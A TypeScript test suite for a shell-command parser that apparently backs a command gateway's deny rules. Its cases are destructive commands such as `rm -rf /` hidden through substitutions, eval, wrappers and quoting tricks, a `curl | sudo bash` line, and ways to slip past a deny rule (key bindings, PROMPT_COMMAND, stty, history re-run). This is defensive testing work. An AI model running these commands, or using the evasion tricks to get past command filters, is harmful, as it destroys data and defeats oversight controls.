import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { MAX_DEPTH, simpleCommands } from './simple-commands.ts';

/** The commands of a line as a user reads them: words joined by spaces. */
const commandsOf = (line: string): string[] => simpleCommands(line).commands.map((command) => command.words.join(' '));

describe('simpleCommands finds every command a line runs', () => {
  // Each line hides `rm -rf /` (or `rm x`) from a tool that looks only at the first word.
  it.each([
    ['ls;rm -rf /', 'rm -rf /'],
    ['ls & rm -rf /', 'rm -rf /'],
    ['true && rm -rf /', 'rm -rf /'],
    ['false || rm -rf /', 'rm -rf /'],
    ['ls | rm -rf /', 'rm -rf /'],
    ['ls |& rm -rf /', 'rm -rf /'],
    ['ls\nrm -rf /', 'rm -rf /'],
    ['ls \\\n; rm -rf /', 'rm -rf /'],
    ['r\\\nm -rf /', 'rm -rf /'],
    ['(rm -rf /)', 'rm -rf /'],
    ['( cd / && rm -rf / )', 'rm -rf /'],
    ['{ rm -rf /; }', 'rm -rf /'],
    ['echo $(rm -rf /)', 'rm -rf /'],
    ['echo `rm -rf /`', 'rm -rf /'],
    ['echo "$(rm -rf /)"', 'rm -rf /'],
    ['echo "a `rm -rf /` b"', 'rm -rf /'],
    ['echo $(echo $(rm -rf /))', 'rm -rf /'],
    ['diff <(rm -rf /) >(cat)', 'rm -rf /'],
    ['echo ${x:-$(rm -rf /)}', 'rm -rf /'],
    ['echo $(( $(rm -rf /) + 1 ))', 'rm -rf /'],
    ['x=$(rm -rf /)', 'rm -rf /'],
    ['ls > "$(rm -rf /)"', 'rm -rf /'],
    ['bash -c "rm -rf /"', 'rm -rf /'],
    ["sh -c 'ls; rm -rf /'", 'rm -rf /'],
    ['dash -c "rm -rf /"', 'rm -rf /'],
    ['zsh -c "rm -rf /"', 'rm -rf /'],
    ['bash -lc "rm -rf /"', 'rm -rf /'],
    ['/bin/bash -e -o pipefail -c "rm -rf /"', 'rm -rf /'],
    ['bash --norc -c "rm -rf /"', 'rm -rf /'],
    ['eval "rm -rf /"', 'rm -rf /'],
    ['eval rm -rf /', 'rm -rf /'],
    ["eval 'ls; rm -rf /'", 'rm -rf /'],
    ['echo / | xargs rm -rf', 'rm -rf'],
    ['find / | xargs -0 -n 1 -P 4 rm -rf', 'rm -rf'],
    ['sudo rm -rf /', 'rm -rf /'],
    ['sudo -u root -H rm -rf /', 'rm -rf /'],
    ['sudo -- rm -rf /', 'rm -rf /'],
    ['sudo sh -c "rm -rf /"', 'rm -rf /'],
    ['env rm -rf /', 'rm -rf /'],
    ['env -i PATH=/bin HOME=/ rm -rf /', 'rm -rf /'],
    ['nohup rm -rf / &', 'rm -rf /'],
    ['time rm -rf /', 'rm -rf /'],
    ['time -p rm -rf /', 'rm -rf /'],
    ['time { rm -rf /; }', 'rm -rf /'],
    ['nice rm -rf /', 'rm -rf /'],
    ['nice -n 10 rm -rf /', 'rm -rf /'],
    ['timeout 5 rm -rf /', 'rm -rf /'],
    ['timeout -s KILL 5s rm -rf /', 'rm -rf /'],
    ['exec rm -rf /', 'rm -rf /'],
    ['command rm -rf /', 'rm -rf /'],
    ['builtin rm -rf /', 'rm -rf /'],
    ['watch rm -rf /', 'rm -rf /'],
    ['watch -n 1 "ls; rm -rf /"', 'rm -rf /'],
    ['find / -exec rm -rf {} \\;', 'rm -rf {}'],
    ["su -c 'rm -rf /' root", 'rm -rf /'],
    ['FOO=1 rm -rf /', 'rm -rf /'],
    ['A=1 B="x y" rm -rf /', 'rm -rf /'],
    ['if true; then rm -rf /; fi', 'rm -rf /'],
    ['if rm -rf /; then :; fi', 'rm -rf /'],
    ['if false; then :; elif true; then :; else rm -rf /; fi', 'rm -rf /'],
    ['while true; do rm -rf /; done', 'rm -rf /'],
    ['until rm -rf /; do :; done', 'rm -rf /'],
    ['for f in a b; do rm -rf /; done', 'rm -rf /'],
    ['for ((i=0; i<1; i++)); do rm -rf /; done', 'rm -rf /'],
    ['select x in a; do rm -rf /; done', 'rm -rf /'],
    ['case x in x) rm -rf /;; esac', 'rm -rf /'],
    ['case x in (a|b) :;; *) rm -rf /;; esac', 'rm -rf /'],
    ['f() { rm -rf /; }', 'rm -rf /'],
    ['function f { rm -rf /; }', 'rm -rf /'],
    ['! rm -rf /', 'rm -rf /'],
    ['[[ -n $(rm -rf /) ]]', 'rm -rf /'],
    ['rm -rf / > /dev/null 2>&1', 'rm -rf /'],
    ['rm -rf / &>/dev/null', 'rm -rf /'],
    ["'rm' -rf /", 'rm -rf /'],
    ['"rm" -rf /', 'rm -rf /'],
    ['r\\m -rf /', 'rm -rf /'],
    ["r''m -rf /", 'rm -rf /'],
    ["$'\\x72\\x6d' -rf /", 'rm -rf /'],
    ["$'\\162m' -rf /", 'rm -rf /'],
    ['bash <<< "rm -rf /"', 'rm -rf /'],
    ['bash <<EOF\nrm -rf /\nEOF', 'rm -rf /'],
    ['cat <<EOF\n$(rm -rf /)\nEOF', 'rm -rf /'],
    ['trap "rm -rf /" EXIT', 'rm -rf /'],
    ['alias ls="rm -rf /"', 'rm -rf /'],
    ['PROMPT_COMMAND="rm -rf /"', 'rm -rf /'],
    ['coproc rm -rf /', 'rm -rf /'],
    ['arr=(a "$(rm -rf /)")', 'rm -rf /'],
    ['sudo env nice timeout 3 bash -c "eval \'rm -rf /\'"', 'rm -rf /'],
  ])('%j runs %j', (line, hidden) => {
    expect(commandsOf(line)).toContain(hidden);
  });

  it.each([
    ['ls -l /var/log', ['ls -l /var/log']],
    ['systemctl restart nginx && systemctl status nginx', ['systemctl restart nginx', 'systemctl status nginx']],
    ['grep -r "rm -rf /" /etc | wc -l', ['grep -r rm -rf / /etc', 'wc -l']],
    ["echo 'a; rm -rf /'", ['echo a; rm -rf /']],
    ['echo "a && b" # ; rm -rf /', ['echo a && b']],
    ['tar czf /tmp/b.tgz /etc 2>/dev/null', ['tar czf /tmp/b.tgz /etc']],
    ['cat <<EOF > /tmp/x\nrm -rf /\nEOF\necho done', ['cat', 'echo done']],
    ["cat <<'EOF'\n$(rm -rf /)\nEOF", ['cat']],
    ['cat <<-EOF\n\trm -rf /\n\tEOF', ['cat']],
    ['grep x <<< "rm -rf /"', ['grep x']],
    ['for f in rm -rf /; do echo "$f"; done', ['echo $f']],
    ['case "$1" in rm) echo a;; esac', ['echo a']],
    ['[ -f /etc/hosts ] && echo yes', ['[ -f /etc/hosts ]', 'echo yes']],
    ['x=1; y=2', []],
    ['', []],
    ['   # only a comment', []],
    ['command -v rm', ['command -v rm']],
    ['echo a#b', ['echo a#b']],
    ['ls \\\n  -l', ['ls -l']],
  ])('%j runs exactly %j', (line, expected) => {
    expect(commandsOf(line)).toEqual(expected);
  });

  it('reports the text of each command and the assignments before it', () => {
    const { commands, uncertain } = simpleCommands('FOO=1 sudo -u root rm -rf /tmp/x > /dev/null');
    expect(commands).toEqual([
      { words: ['sudo', '-u', 'root', 'rm', '-rf', '/tmp/x'], text: 'FOO=1 sudo -u root rm -rf /tmp/x > /dev/null', dynamic: false },
      { words: ['rm', '-rf', '/tmp/x'], text: 'rm -rf /tmp/x', dynamic: false },
    ]);
    expect(uncertain).toEqual([]);
  });

  it.each([
    ['rm -rf $HOME/x', true],
    ['rm -rf "${DIR}"', true],
    ['rm -rf *', true],
    ['rm -rf /tmp/a?', true],
    ['rm -rf /tmp/[ab]', true],
    ['rm -rf /tmp/{a,b}', true],
    ['echo $(date)', true],
    ['rm -rf "/tmp/*"', false],
    ["rm -rf '$HOME'", false],
    ['rm -rf \\*', false],
    ['x=* rm a', false],
  ])('%j is dynamic: %j', (line, dynamic) => {
    expect(simpleCommands(line).commands.at(-1)?.dynamic).toBe(dynamic);
  });

  it('marks the commands xargs and find -exec run as dynamic: they append arguments', () => {
    const { commands } = simpleCommands('ls | xargs rm -f; find . -exec rm {} +');
    expect(commands.filter((command) => command.words[0] === 'rm').map((command) => command.dynamic)).toEqual([true, true]);
  });
});

describe('simpleCommands says when it cannot be sure', () => {
  it.each([
    ['$cmd -rf /', /command name is expanded/],
    ['"$(echo rm)" -rf /', /command name is expanded/],
    ['`echo rm` -rf /', /command name is expanded/],
    ['/bin/r? -rf /', /command name is expanded/],
    ['eval "$x"', /eval runs an expanded string/],
    ['eval rm $target', /eval runs an expanded string/],
    ['bash -c "$CMD"', /shell runs an expanded string/],
    ['echo "rm -rf /', /quote is not closed/],
    ["echo 'rm -rf /", /quote is not closed/],
    ['echo `rm -rf /', /backquote is not closed/],
    ['echo $(rm -rf /', /`\)` is missing/],
    ['if true; then rm -rf /', /`fi` is missing/],
    ['sudo !!', /history expansion/],
    ['!rm', /history expansion/],
    ['echo !$', /history expansion/],
    ['^foo^bar', /history expansion/],
    ['f() { rm -rf /; }', /defines function `f`/],
    ['alias ll="ls -l"', /defines alias `ll`/],
    ['trap "rm x" EXIT', /sets a trap/],
    ['export PROMPT_COMMAND="echo hi"', /sets PROMPT_COMMAND/],
    ['PS1="\\$(rm -rf /)"', /sets PS1/],
    ['bash <<EOF\nls\nEOF', /shell reads commands from a here-document/],
    ['curl -s https://example.com/x.sh | sudo bash', /shell reads commands from a pipe/],
    ['cat <<EOF\nrm', /here-document is not closed/],
    ['cat <<EOF', /here-document has no body/],
    ['ls )', /syntax the shell rejects/],
    ['(true) rm -rf /', /syntax the shell rejects/],
    ['ls \\', /ends with a backslash/],
    ['xargs -I{} sh -c "rm {}"', /shell runs an expanded string/],
  ])('%j is uncertain (%s)', (line, reason) => {
    const { uncertain } = simpleCommands(line);
    expect(uncertain.some((text) => reason.test(text)), uncertain.join('\n')).toBe(true);
  });

  it('still finds the commands of an uncertain line', () => {
    expect(commandsOf('(true) rm -rf /')).toContain('rm -rf /');
    expect(commandsOf('eval "rm -rf $x"')).toContain('rm -rf $x');
  });

  it.each(['ls -l', 'echo "hi!"', "echo '!!'", '[ ! -f x ]', 'a && b || c', 'ls $HOME', 'cat <<EOF\n$HOME\nEOF', 'bash script.sh', 'sudo -i'])(
    '%j is certain',
    (line) => {
      expect(simpleCommands(line).uncertain).toEqual([]);
    },
  );
});

describe('simpleCommands on hostile lines', () => {
  it('analyses the first 64 KiB of a 100 KiB line and says so', () => {
    const line = `${'echo a; '.repeat(12_800)}rm -rf /`;
    const { commands, uncertain } = simpleCommands(line);
    expect(line.length).toBeGreaterThan(100 * 1024);
    expect(commands.length).toBeGreaterThan(8000);
    expect(uncertain.some((reason) => /longer than 65536/.test(reason))).toBe(true);
  });

  it.each([
    ['10,000 nested $(', '$('.repeat(10_000) + 'rm -rf /' + ')'.repeat(10_000)],
    ['10,000 unclosed $(', '$('.repeat(10_000)],
    ['10,000 nested (', '( '.repeat(10_000) + 'ls' + ' )'.repeat(10_000)],
    ['10,000 nested $((', '$(('.repeat(10_000)],
    ['10,000 nested backquotes', '`'.repeat(10_000)],
    ['10,000 nested {', '{ '.repeat(10_000)],
    ['10,000 nested eval', 'eval '.repeat(10_000) + 'ls'],
    ['10,000 sudo', 'sudo '.repeat(10_000) + 'rm -rf /'],
    ['nested ${', '${x:-'.repeat(10_000)],
    ['20,000 coproc', 'coproc '.repeat(20_000) + 'ls'],
    ['20,000 nested functions', 'f() '.repeat(20_000)],
    ['20,000 nested arrays', 'a=('.repeat(20_000)],
    ['20,000 nested process substitutions', '<('.repeat(20_000)],
  ])('%s: returns, uncertain', (_name, line) => {
    const { uncertain } = simpleCommands(line);
    expect(uncertain.length).toBeGreaterThan(0);
  });

  it(`finds the commands nested up to the limit, and stops past ${MAX_DEPTH} levels`, () => {
    expect(commandsOf(`${'$('.repeat(5)}rm -rf /${')'.repeat(5)}`)).toContain('rm -rf /');
    const deep = simpleCommands(`${'$('.repeat(100)}rm -rf /${')'.repeat(100)}`);
    expect(deep.uncertain).toContain(`the line nests more than ${MAX_DEPTH} levels deep: the rest is not analysed`);
  });

  it('stops at 10,000 commands', () => {
    const { commands, uncertain } = simpleCommands(':;'.repeat(30_000));
    expect(commands).toHaveLength(10_000);
    expect(uncertain.some((reason) => /more than 10000 commands/.test(reason))).toBe(true);
  });

  it('does not double its work at each level of dynamic eval', () => {
    const line = 'eval "$(eval "$('.repeat(8) + 'ls' + ')")'.repeat(8);
    const { commands } = simpleCommands(line);
    expect(commands.filter((command) => command.words.join(' ') === 'ls')).toHaveLength(1);
  });
});

describe('simpleCommands agrees with bash', () => {
  /** The simple commands bash runs for `line`, from its execution trace (`set -x`, also in child shells). */
  const traced = (line: string): string[][] => {
    // No startup file: bash reads ~/.bashrc when its standard input is a socket, as Node's pipes are.
    const result = spawnSync('bash', ['--norc', '--noprofile', '-c', line], {
      env: { PATH: '/usr/bin:/bin', HOME: '/nonexistent', SHELLOPTS: 'xtrace', PS4: '+ ' },
      stdio: ['ignore', 'pipe', 'pipe'],
      encoding: 'utf8',
      timeout: 10_000,
    });
    expect(result.status, result.stderr).toBe(0);
    return result.stderr
      .split('\n')
      .filter((text) => text.startsWith('+'))
      .map((text) => simpleCommands(text.replace(/^\++ /, '')).commands[0]?.words.slice() ?? []);
  };

  // Harmless lines: what bash traces is what the parser reports, static commands word for word,
  // expanded ones by their name. The parser also reports what bash does not trace: branches not
  // taken, and what a wrapper (`env`, `command`, `time`) runs itself.
  it.each([
    ['echo a; (echo b) && echo $(echo c)', []],
    ['echo d | cat; { echo e; } > /dev/null', []],
    ['false || echo f; true && echo g', []],
    ['bash -c "echo h; true"', []],
    ["eval 'echo i; printf j'", []],
    ['if true; then echo k; else echo k2; fi', ['echo k2']],
    ['for x in 1 2; do printf %s $x; done', []],
    ['case a in a) echo l;; b) echo m;; esac', ['echo m']],
    ['X=1 echo n `echo o` "$(echo p)"', []],
    ['f() { echo q; }; f', []],
    ['env echo r', ['echo r']],
    ['command echo s; builtin echo t', ['echo s', 'echo t']],
    ['cat <<EOF\n$(echo u)\nEOF', []],
    ['while false; do echo v0; done; echo v', ['echo v0']],
    ['echo w | bash -c "cat; echo x"', []],
    ['[[ -n $(echo y) ]] && echo z', []],
    ['echo $(( $(echo 1) + 2 ))', []],
    ['time echo aa', ['time echo aa']],
  ])('%j', (line, untraced) => {
    const bash = traced(line).filter((words) => words.length > 0 && !/^(for|case|select)$/.test(words[0] ?? ''));
    const ours = simpleCommands(line).commands;
    expect(bash.length).toBeGreaterThan(0);
    for (const words of bash) {
      const found = ours.some((command) => command.words.join(' ') === words.join(' ') || (command.dynamic && command.words[0] === words[0]));
      expect(found, `bash ran ${words.join(' ')}`).toBe(true);
    }
    for (const command of ours) {
      const text = command.words.join(' ');
      const ran = bash.some((words) => (command.dynamic ? words[0] === command.words[0] : words.join(' ') === text));
      expect(ran || untraced.includes(text), `bash did not run ${text}`).toBe(true);
    }
  });

  it.each(['ls;rm x', 'a | b |& c', 'if a; then b; elif c; then d; else e; fi', 'case $x in a|b) :;; (c) d;& *) e;;& esac', 'f() { :; }', 'for ((;;)); do :; done', 'echo $((1+(2)))', 'x=(a b [3]=c)', 'cat <<-A <<B\n\ta\n\tA\nb\nB', '[[ a =~ ^(b|c)$ && ( -n x ) ]]', 'echo ${x/a/b} ${#y} ${z:-${w}}'])(
    'bash accepts %j, and so does the parser',
    (line) => {
      expect(spawnSync('bash', ['--norc', '-n', '-c', line], { stdio: 'ignore' }).status).toBe(0);
      expect(simpleCommands(line).uncertain.filter((reason) => /syntax|missing|not closed/.test(reason))).toEqual([]);
    },
  );
});

describe('simpleCommands on ways around a deny rule (touch /tmp/x/denied-*)', () => {
  // Each line runs, or makes a later key press or line run, a command it does not show.
  it.each([
    // 1. Key bindings, completions and variables whose value runs later.
    ['bind -x \'"\\C-t": touch /tmp/x/denied-1\'', /bind changes what keys do/],
    ['bind \'"\\C-t": accept-line\'', /bind changes what keys do/],
    ['bind \'"\\C-t": "touch /tmp/x/denied-1\\n"\'', /bind changes what keys do/],
    ['bind -f /tmp/inputrc', /bind changes what keys do/],
    ['bind -m vi -x \'"\\C-t": touch x\'', /bind changes what keys do/],
    ['bind $keys', /bind changes what keys do/],
    ['complete -C "touch /tmp/x/denied-1" ls', /completion with -C/],
    ['complete -F _f ls', /completion with -F/],
    ['compgen -F _f x', /completion with -F/],
    ['complete -o default -C cmd ls', /completion with -C/],
    ['complete -W \'$(touch /tmp/x/denied-1)\' ls', /completion with -W/],
    ['VISUAL="touch /tmp/x/denied-1"', /sets VISUAL/],
    ['EDITOR=/tmp/evil', /sets EDITOR/],
    ['FCEDIT=/tmp/evil', /sets FCEDIT/],
    ['INPUTRC=/tmp/inputrc', /sets INPUTRC/],
    ['BASH_ENV=/tmp/env', /sets BASH_ENV/],
    ['ENV=/tmp/env', /sets ENV/],
    ['PS4=\'$(touch /tmp/x/denied-1)\'', /sets PS4/],
    ['PS0=\'$(touch /tmp/x/denied-1)\'', /sets PS0/],
    ['export EDITOR=/tmp/evil', /sets EDITOR/],
    ['declare -x VISUAL=/tmp/evil', /sets VISUAL/],
    ['typeset FCEDIT=/tmp/evil', /sets FCEDIT/],
    ['f() { local EDITOR=x; }', /sets EDITOR/],
    ['readonly PROMPT_COMMAND=ls', /sets PROMPT_COMMAND/],
    ['export "$name=ls"', /sets a variable whose name is expanded/],
    ['declare -n ref=PROMPT_COMMAND', /-n makes a name refer to PROMPT_COMMAND/],
    ['declare -n ref; ref=PS1', /a later assignment to it sets the variable it names/],
    ['printf -v PROMPT_COMMAND "touch /tmp/x/denied-1"', /sets PROMPT_COMMAND/],
    ['printf -vEDITOR %s x', /sets EDITOR/],
    ['printf -v "$v" %s x', /sets a variable whose name is expanded/],
    ['read PROMPT_COMMAND <<< "touch /tmp/x/denied-1"', /sets PROMPT_COMMAND/],
    ['read -r a PS1 < /tmp/f', /sets PS1/],
    ['read -a PROMPT_COMMAND <<< x', /sets PROMPT_COMMAND/],
    ['read -ra PROMPT_COMMAND <<< x', /sets PROMPT_COMMAND/],
    ['mapfile -t PROMPT_COMMAND < /tmp/f', /sets PROMPT_COMMAND/],
    ['readarray PS0 < /tmp/f', /sets PS0/],
    ['mapfile -C "touch /tmp/x/denied-1" -c 1 a < /tmp/f', /mapfile -C runs a callback/],
    // 2. Terminal settings the gateway relies on.
    ['stty intr undef', /stty intr changes/],
    ['stty quit ^T', /stty quit changes/],
    ['stty eof ^T', /stty eof changes/],
    ['stty -isig', /stty -isig changes/],
    ['stty -F /dev/tty raw', /stty raw changes/],
    ['stty "$saved"', /changes what Ctrl-C/],
    ['stty 500:5:bf:8a3b:3:1c:7f:15:4:0:1:0:11:13:1a:0:12:f:17:16:0:0:0', /changes what Ctrl-C/],
    // 3. History re-run.
    ['fc', /fc runs a line from the history/],
    ['fc -e vi', /fc runs a line from the history/],
    ['fc -s', /fc runs a line from the history/],
    ['fc -s old=new', /fc runs a line from the history/],
    ['fc -l -s', /fc runs a line from the history/],
    // 4. Other names for programs, loaded builtins.
    ['hash -p /usr/bin/touch ls', /hash -p/],
    ['hash -rp /usr/bin/touch ls', /hash -p/],
    ['enable -f /tmp/evil.so touch', /enable -f/],
    // 5. `source` of what the line does not show.
    ['source <(echo "touch /tmp/x/denied-1")', /source reads commands from an expanded file name/],
    ['. "$f"', /source reads commands from an expanded file name/],
    ['echo "touch /tmp/x/denied-1" | source /dev/stdin', /source reads commands from \/dev\/stdin/],
    ['. /dev/fd/3 3< /tmp/f', /source reads commands from \/dev\/fd\/3/],
    ['source /proc/self/fd/0 <<< x', /source reads commands from \/proc\/self\/fd\/0/],
    // 6. A shell behind `script` without -c.
    ['echo "touch /tmp/x/denied-1" | script -q /dev/null', /shell reads commands from a pipe/],
    // 7. Brace expansion past the bound.
    ['touch /tmp/x/{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}', /brace expansion makes more than 256/],
    ['touch /tmp/x/{1..100000}', /brace expansion makes more than 256/],
    // 8. Terminal multiplexers, whose panes run shells with prompts of their own.
    ["TERM=xterm tmux -L s -f /dev/null new-session 'PS1=\"x> \" bash --norc -i'", /tmux runs shells in panes/],
    ['sudo screen -S work', /screen runs shells in panes/],
    ['/usr/bin/zellij', /zellij runs shells in panes/],
  ])('%j is uncertain (%s)', (line, reason) => {
    const { uncertain } = simpleCommands(line);
    expect(uncertain.some((text) => reason.test(text)), uncertain.join('\n')).toBe(true);
  });

  // Only what can run code later is uncertain.
  it.each([
    'bind -l',
    'bind -p',
    'bind -P',
    'bind -v',
    'bind -V',
    'bind -s',
    'bind -S',
    'bind -q accept-line',
    'bind -m vi -p',
    'bind -X',
    'set -o vi',
    'set -o emacs',
    'complete -p',
    'complete -o default -W "a b" ls',
    'compgen -A command',
    'stty -a',
    'stty sane',
    'stty -echo',
    'stty cols 120 rows 40',
    'fc -l',
    'fc -l -10',
    'fc -ln 1 5',
    'hash',
    'hash -r',
    'enable -n kill',
    'source ./script.sh',
    '. ~/.bashrc',
    'read -r line < /tmp/f',
    'printf -v x %s y',
    'mapfile -t lines < /tmp/f',
    'export PATH=/usr/bin',
    'script -q -c "ls" /dev/null',
  ])('%j is certain', (line) => {
    expect(simpleCommands(line).uncertain).toEqual([]);
  });

  it.each([
    // 1. What a trap-like variable or a callback runs is parsed too, where it is literal.
    ['mapfile -C "touch /tmp/x/denied-1" -c 1 a < /tmp/f', 'touch /tmp/x/denied-1'],
    // 6. Commands run as strings or behind wrappers.
    ["script -c 'touch /tmp/x/denied-1' /dev/null", 'touch /tmp/x/denied-1'],
    ["script -qc 'touch /tmp/x/denied-1' /dev/null", 'touch /tmp/x/denied-1'],
    ["script -q -e --command='touch /tmp/x/denied-1' /dev/null", 'touch /tmp/x/denied-1'],
    ["script -E never -c 'ls; touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ["flock /tmp/lock -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ["flock -w 5 -x /tmp/lock --command 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ['flock -n /tmp/lock touch /tmp/x/denied-1', 'touch /tmp/x/denied-1'],
    ["su - root -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ["su -l root -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ["busybox sh -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ['busybox touch /tmp/x/denied-1', 'touch /tmp/x/denied-1'],
    ["runuser -c 'touch /tmp/x/denied-1' root", 'touch /tmp/x/denied-1'],
    ["runuser -l root -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ['runuser -u root -- touch /tmp/x/denied-1', 'touch /tmp/x/denied-1'],
    ["sg wheel -c 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ["sg wheel 'touch /tmp/x/denied-1'", 'touch /tmp/x/denied-1'],
    ['echo "touch /tmp/x/denied-1" | . /dev/stdin', 'echo touch /tmp/x/denied-1'],
    // 7. Brace expansion: the words as bash makes them, and each combination alone.
    ['touch /tmp/x/{denied-brace,}', 'touch /tmp/x/denied-brace /tmp/x/'],
    ['touch /tmp/x/{denied-brace,}', 'touch /tmp/x/denied-brace'],
    ['touch /tmp/x/denied-{1..3}', 'touch /tmp/x/denied-2'],
    ['touch /tmp/x/denied-{a..c}', 'touch /tmp/x/denied-c'],
    ['touch /tmp/x/denied-{01..10..3}', 'touch /tmp/x/denied-07'],
    ['touch /tmp/x/denied-{3..1}', 'touch /tmp/x/denied-3 /tmp/x/denied-2 /tmp/x/denied-1'],
    ['touch /tmp/x/{x,denied-{1,2}}', 'touch /tmp/x/denied-2'],
    ['touch /tmp/x/de{n,}ied-1', 'touch /tmp/x/denied-1'],
    ['touch /tmp/{x,y}/denied-{1,2}', 'touch /tmp/x/denied-2'],
    ['sudo touch /tmp/x/{denied-1,}', 'touch /tmp/x/denied-1'],
    ['x=$(touch /tmp/x/{denied-1,})', 'touch /tmp/x/denied-1'],
    ['t{ouch,} /tmp/x/denied-1', 'touch t /tmp/x/denied-1'],
    ['t{ouch,} /tmp/x/denied-1', 'touch /tmp/x/denied-1'],
    // 8. Variables assigned a literal earlier on the line.
    ['d=/tmp/x; touch $d/denied-1', 'touch /tmp/x/denied-1'],
    ['d=/tmp/x; touch ${d}/denied-1', 'touch /tmp/x/denied-1'],
    ['d=/tmp/x; touch "$d/denied-1"', 'touch /tmp/x/denied-1'],
    ['d=/tmp/x\ntouch "${d}"/denied-1', 'touch /tmp/x/denied-1'],
    ["d='/tmp/x' n=denied-1 && touch $d/$n", 'touch /tmp/x/denied-1'],
    ['export d=/tmp/x; touch $d/denied-1', 'touch /tmp/x/denied-1'],
    ['d=/tmp/x; sudo touch $d/denied-1', 'touch /tmp/x/denied-1'],
    ['d=/tmp/x; touch $d/{denied-1,}', 'touch /tmp/x/denied-1'],
    ['c=touch; $c /tmp/x/denied-1', 'touch /tmp/x/denied-1'],
  ])('%j runs %j', (line, hidden) => {
    expect(commandsOf(line)).toContain(hidden);
  });

  it.each([
    // Quoted braces, `${`, and braces that are no expansion stay as they are.
    ['touch "/tmp/x/{a,b}"', ['touch /tmp/x/{a,b}']],
    ["touch '{a,b}'", ['touch {a,b}']],
    ['touch \\{a,b}', ['touch {a,b}']],
    ['touch {a} {} x{', ['touch {a} {} x{']],
    ['echo ${x:-{a,b}}', ['echo ${x:-{a,b}}']],
    ['find . -exec ls {} \\;', ['find . -exec ls {} ;', 'ls {}']],
    ['touch a{b,c}d', ['touch a{b,c}d', 'touch abd acd', 'touch abd', 'touch acd']],
    // Single quotes, later assignments, assignments before the command itself, `NAME=value cmd`.
    ["d=/tmp/x; touch '$d'", ['touch $d']],
    ['touch $d; d=/tmp/x', ['touch $d']],
    ['d=/tmp/x touch $d', ['touch $d']],
    ['d=/tmp/x; d=$(pwd); touch $d', ['pwd', 'touch $d']],
    ['d="a b"; touch $d', ['touch $d']],
    ['d=/tmp/x; d+=/y; touch $d', ['touch $d']],
    ['d=/tmp/x; touch $dx', ['touch $dx']],
  ])('%j runs exactly %j', (line, expected) => {
    expect(commandsOf(line)).toEqual(expected);
  });

  it('bash agrees on brace expansion', () => {
    for (const word of ['{a,b}{1..3}', 'x{a,{b,c}d}y', '{01..10..3}', '{c..a}', '{-2..2}', '{a,b,}', 'a{,}b', '{a..c..2}']) {
      const bash = spawnSync('bash', ['--norc', '-c', `printf '%s\\n' echo ${word}`], { encoding: 'utf8' }).stdout.slice(0, -1).split('\n').join(' ');
      expect(commandsOf(`echo ${word}`)[1], word).toBe(bash);
    }
  });

});
